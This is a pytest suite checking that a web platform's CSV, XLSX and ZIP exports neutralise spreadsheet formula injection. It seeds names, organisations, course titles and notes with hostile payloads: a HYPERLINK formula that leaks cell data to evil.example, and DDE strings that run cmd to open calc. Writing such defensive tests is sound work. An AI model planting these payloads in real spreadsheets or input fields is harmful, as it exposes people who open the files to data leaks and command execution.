"""Every spreadsheet and CSV that leaves the platform goes through the one formula guard.

Names, organisations, course titles and notes beginning with =, +, -, @, a tab or a carriage return are
put in the database, then every export is downloaded as the person it is for; no cell of any of them may
begin with one of those characters (the guard writes such text with a leading apostrophe).
"""

import csv
import datetime
import io
import zipfile

import pytest
from openpyxl import load_workbook

from champions import services as champion_services
from champions.models import ChampionActivity
from home.spreadsheets import FORMULA_STARTS, SpreadsheetSafe, formula_safe
from tests.courses.certificate_helpers import complete, make_course
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
EVIL_ORGANISATION = "+cmd|' /C calc'!A0"
EVIL_COURSE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NOTE = "-2+3+cmd|' /C calc'!A0"
Q1 = datetime.date(2025, 5, 6)  # in 2025-26-Q1


def unguarded(cells) -> list[str]:
    return [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_records(django_capture_on_commit_callbacks, make_champion):
    organisation = OrganisationFactory(name=EVIL_ORGANISATION)
    course = make_course(title=EVIL_COURSE)
    people = [
        UserFactory(full_name=name, organisation=organisation)
        for name in (EVIL_NAME, "\tTabbed Name", "\rCarriage Name", "-Minus Name", "Plain Name")
    ]
    for person in people:
        complete(person, course, Q1, capture=django_capture_on_commit_callbacks)
    champion = make_champion(UserFactory(full_name="+Champion Plus", organisation=organisation))
    champion_services.log_activity(
        champion,
        activity_date=datetime.date.today() - datetime.timedelta(days=3),
        kind=ChampionActivity.Kind.BRIEFED,
        people_reached=4,
        note=EVIL_NOTE,
    )
    return {"organisation": organisation, "course": course, "people": people}


def test_every_export_writes_hostile_text_as_text_never_as_a_formula(client, hostile_records, training_manager):
    organisation, course, people = (hostile_records[k] for k in ("organisation", "course", "people"))
    exports: dict[str, list[str]] = {}

    client.force_login(people[0])
    exports["learning record"] = csv_cells(body(client.get("/learning/record.csv")))

    client.force_login(UserFactory(groups=["Partner leads"], organisation=organisation))
    exports["partner staff list"] = csv_cells(body(client.get(f"/partners/staff/{organisation.pk}/download.csv")))

    client.force_login(training_manager)
    for by in ("organisation", "course"):
        query = {"period": "2025-26-Q1", "by": by}
        exports[f"dashboard csv by {by}"] = csv_cells(body(client.get("/admin/measures/", {**query, "export": "csv"})))
        sheet = load_workbook(io.BytesIO(body(client.get("/admin/measures/", {**query, "export": "xlsx"})))).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        exports[f"dashboard xlsx by {by}"] = [cell.value for row in sheet.iter_rows() for cell in row]
    completions = client.get("/admin/measures/completions.csv", {"period": "2025-26-Q1"})
    exports["completions csv"] = csv_cells(body(completions))
    exports["champion activity csv"] = csv_cells(body(client.get("/admin/champions/activity/", {"export": "csv"})))
    archive = body(
        client.post("/admin/certificates/export/", {"course": course.pk, "start": "2025-04-01", "end": "2025-06-30"})
    )
    with zipfile.ZipFile(io.BytesIO(archive)) as zipped:
        exports["certificates zip listing"] = csv_cells(zipped.read("certificates.csv"))

    for name, cells in exports.items():
        assert cells, f"{name}: nothing was exported"
    everything = [cell for cells in exports.values() for cell in cells]
    # The hostile text did reach the exports, guarded...
    for text in (EVIL_NAME, EVIL_ORGANISATION, EVIL_COURSE, EVIL_NOTE):
        assert "'" + text in everything, text
    # ...and nothing anywhere begins like a formula.
    assert {name: unguarded(cells) for name, cells in exports.items() if unguarded(cells)} == {}


def test_the_certificates_zip_lists_a_hostile_name_as_text(client, hostile_records, training_manager):
    client.force_login(training_manager)
    response = client.post(
        "/admin/certificates/export/",
        {"course": hostile_records["course"].pk, "start": "2025-04-01", "end": "2025-06-30"},
    )
    with zipfile.ZipFile(io.BytesIO(body(response))) as zipped:
        rows = list(csv.DictReader(io.StringIO(zipped.read("certificates.csv").decode(), newline="")))
    names = {row["name"] for row in rows}
    assert "'" + EVIL_NAME in names
    assert "'-Minus Name" in names  # (a certificate's name is trimmed, so tab and CR never lead one)
    assert {row["course"] for row in rows} == {"'" + EVIL_COURSE}


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+44 1223", "'+44 1223"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain", "Plain"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_the_guard_prefixes_formula_text_and_leaves_numbers_alone(value, expected):
    assert formula_safe(value) == expected


def test_the_database_guard_agrees_with_the_python_guard():
    from accounts.models import Organisation

    names = ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "A1"]
    for name in names:
        OrganisationFactory(name=name)
    guarded = dict(
        Organisation.objects.filter(name__in=names).annotate(safe=SpreadsheetSafe("name")).values_list("name", "safe")
    )
    assert guarded == {name: formula_safe(name) for name in names}
